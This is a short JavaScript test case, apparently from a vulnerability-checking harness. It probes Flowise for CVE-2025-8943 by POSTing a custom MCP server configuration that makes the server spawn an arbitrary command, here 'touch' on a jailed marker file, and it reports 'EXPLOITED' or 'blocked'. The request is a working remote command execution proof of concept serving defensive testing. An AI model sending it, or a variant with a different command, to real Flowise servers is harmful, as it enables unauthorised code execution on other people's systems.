// CVE-2025-8943: Custom MCP stdio transport spawns an arbitrary command (fork+execve through libuv). auth: API key/session (<=3.0.5 any command).
// The spawn is Flowise's own, so the errno is in its answer or its log; the jail's record of it is the denied-exec event.
import { req, key, xmark, xjail, seen, rm, verdict, sleep } from './lib.mjs'
const m = xmark('a02'); rm(m); await key()
const r = await req('POST', '/api/v1/node-load-method/customMCP', { loadMethod: 'listActions', inputs: { mcpServerConfig: JSON.stringify({ command: 'touch', args: [xjail('a02')] }) } }, { key: true })
await sleep(800); const g = seen(m); verdict('a02', g !== null ? 'EXPLOITED' : 'blocked', g !== null ? 'marker written by child' : `${r.status} ${JSON.stringify(r.body)}`)
